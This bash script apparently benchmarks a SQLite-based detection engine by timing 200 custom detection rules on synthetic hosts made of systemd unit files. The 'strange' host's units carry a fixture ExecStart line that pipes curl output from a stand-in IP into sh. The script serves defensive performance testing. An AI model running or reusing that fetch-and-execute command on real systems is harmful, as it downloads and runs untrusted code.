#!/usr/bin/env bash
# own_detections.sh -- findings with 200 detections of one's own beside the shipped ones: expressions, then
# patterns, on a host of 300 ordinary units and on one of 1,000 strange ones.
#
# Median of ROUNDS, processor ms of whole processes, in turns. Aim: at most 1.5 times the shipped ones on
# ordinary hosts, 1.8 times on strange ones.
set -euo pipefail
build=${BUILD:-build} rounds=${ROUNDS:-5}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

own() { # name, column of the tests, section and body
    printf -- '-- %s: a detection of a bench\n-- platform:        linux\n-- technique:       T1543.002\n' "$1"
    printf -- '-- weight:          10\n-- false positives: none\n--\n%s\n' "$3"
    printf -- '-- fires:   {"%s": "/opt/.%s/a"}\n-- fires:   {"%s": "/opt/.%s/b"}\n' "$2" "$1" "$2" "$1"
    printf -- '-- spares:  {"%s": "/opt/%s/a"}\n-- spares:  {"%s": "/opt/%s/b"}\n' "$2" "$1" "$2" "$1"
    printf '%s\n' "${4-}"
}
mkdir "$work/expressions" "$work/patterns" "$work/none"
for ((i = 0; i < 200; i++)); do
    own "e$i" program '-- shape:   unit_command' "program GLOB '/opt/.e$i/*' OR script GLOB '/opt/.e$i/*'" \
        > "$work/expressions/e$i.sql"
    own "p$i" unix "-- pattern: unix (^|[- ])/opt/[.]p$i/" > "$work/patterns/p$i.sql"
done
host() { # folder, units, command
    local i
    mkdir -p "$1/etc/systemd/system"
    echo ID=debian > "$1/etc/os-release"
    for ((i = 0; i < $2; i++)); do
        printf '[Unit]\nDescription=Unit %d\n[Service]\nExecStart=%s%d\n' "$i" "$3" "$i" \
            > "$1/etc/systemd/system/unit$i.service"
    done
}
host "$work/ordinary" 300 '/usr/sbin/unit --run '
host "$work/strange" 1000 '/bin/sh -c "curl http://192.0.2.1/a | sh" /tmp/.x/unit'
timed() { # host, folder
    {
        printf "DELETE FROM evidence;\nINSERT INTO evidence(location) VALUES ('%s');\n" "$work/$1"
        printf "UPDATE svcql_settings SET value = '%s' WHERE name = 'signals';\n" "$work/$2"
        echo 'SELECT count(*) FROM findings;'
    } > "$work/query.sql"
    /usr/bin/time -f '%U %S' -o "$work/time" sqlite3 -cmd ".load $build/svcql" :memory: < "$work/query.sql" > /dev/null
    awk '{ print ($1 + $2) * 1000 }' "$work/time" >> "$work/$1.$2"
}
median() { sort -n "$1" | sed -n "$((rounds / 2 + 1))p"; }

for host in ordinary strange; do
    for ((r = 0; r < rounds; r++)); do
        for folder in none expressions patterns; do timed $host $folder; done
    done
    for folder in expressions patterns; do
        awk -v h="$host, 200 $folder" -v a="$(median "$work/$host.none")" -v b="$(median "$work/$host.$folder")" \
            'BEGIN { printf "%-28s %6d ms, shipped alone %6d ms: %.2f\n", h, b, a, b / a }'
    done
done
